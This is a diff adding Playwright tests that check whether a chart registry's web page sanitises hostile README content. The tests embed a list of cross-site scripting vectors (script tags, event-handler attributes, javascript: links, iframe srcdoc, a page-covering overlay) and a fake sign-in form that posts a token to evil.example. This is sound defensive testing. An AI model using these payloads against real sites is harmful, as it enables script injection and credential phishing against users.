@@ -1,0 +1,70 @@
+"""Charts come from strangers: what a README brings along must not run in the page that shows it."""
+
+import json
+
+from playwright.sync_api import Route, expect
+
+from tests.chart_reader.packing import pack_chart
+from tests.journeys.conftest import StartChartroom, registry_input
+from tests.pages.conftest import OpenPage, register, wait_until_synced
+from tests.real.docker_registry import StartDockerRegistry
+from tests.real.pushing import push_chart
+
+HOSTILE = """# Hostile <script>window.owned = 1</script>
+
+<script>window.owned = 2</script>
+<img src="x" onerror="window.owned = 3">
+<svg onload="window.owned = 4"></svg>
+<iframe srcdoc="<script>parent.owned = 5</script>"></iframe>
+<a href="javascript:window.owned = 6" id="trap">a link</a>
+<style>body { display: none }</style>
+<div style="position: fixed; inset: 0; background: red" onmouseover="window.owned = 7">over the page</div>
+<form action="https://evil.example"><input name="token"><button>Sign in again</button></form>
+<details open ontoggle="window.owned = 8"><summary>more</summary></details>
+[a markdown link](javascript:window.owned=9)
+
+The end.
+"""
+
+
+def test_a_hostile_readme_runs_no_script(
+    start_chartroom: StartChartroom, docker_registry: StartDockerRegistry, open_page: OpenPage
+) -> None:
+    registry = docker_registry(login=False, tls=False)
+    push_chart(registry, "evil/chart", pack_chart("chart", "1.0.0", {"README.md": HOSTILE}))
+    chartroom = start_chartroom()
+    wait_until_synced(chartroom, register(chartroom, registry_input(registry, "evil/chart", name="evil")))
+
+    page = open_page(chartroom, "/store/evil/evil/chart")
+    readme = page.locator(".readme")
+    expect(readme).to_contain_text("The end.")
+    for link in readme.get_by_role("link").all():
+        assert not (link.get_attribute("href") or "").startswith("javascript:")
+    assert readme.locator("script, iframe, form, style, [onerror], [onload], [style]").count() == 0
+    assert page.evaluate("window.owned") is None
+
+
+def test_even_a_readme_that_nobody_sanitised_runs_no_script(
+    start_chartroom: StartChartroom, docker_registry: StartDockerRegistry, open_page: OpenPage
+) -> None:
+    registry = docker_registry(login=False, tls=False)
+    push_chart(registry, "evil/chart", pack_chart("chart", "1.0.0", {"README.md": "# Plain"}))
+    chartroom = start_chartroom()
+    wait_until_synced(chartroom, register(chartroom, registry_input(registry, "evil/chart", name="evil")))
+
+    def corrupt(route: Route) -> None:
+        answer = route.fetch()
+        body = answer.json()
+        version = (body.get("data") or {}).get("chartVersion") or {}
+        if version.get("readme"):
+            version["readme"]["html"] = HOSTILE
+        route.fulfill(response=answer, body=json.dumps(body))
+
+    page = open_page(chartroom, "/store")
+    page.route("**/graphql", corrupt)
+    page.goto(chartroom.base_url + "/store/evil/evil/chart")
+    expect(page.locator(".readme")).to_contain_text("The end.")
+    page.locator("#trap").click(force=True)
+    page.locator(".readme div").hover(force=True)
+    assert page.evaluate("window.owned") is None
+    assert page.locator(".readme div").evaluate("element => getComputedStyle(element).position") == "static"
